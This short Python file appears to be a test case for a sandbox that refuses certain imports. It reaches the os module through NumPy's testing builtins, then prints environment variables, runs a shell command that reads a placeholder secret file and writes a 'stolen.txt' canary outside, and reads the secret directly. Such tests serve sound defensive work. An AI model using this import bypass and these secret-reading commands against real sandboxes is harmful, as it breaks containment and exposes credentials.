# SPDX-License-Identifier: GPL-3.0-or-later
# title: A part of NumPy leads to the module os
# route: numpy.f2py, numpy.testing
# policy: refused import
# contained: canary writes
# ends: finished raised
import numpy

os = numpy.testing.overrides.__builtins__["__import__"]("os")
print(
    os.environ,
    os.system("cat @SECRET@; echo written > @OUTSIDE@/stolen.txt"),
    os.read(os.open("@SECRET@", 0), 99),
)
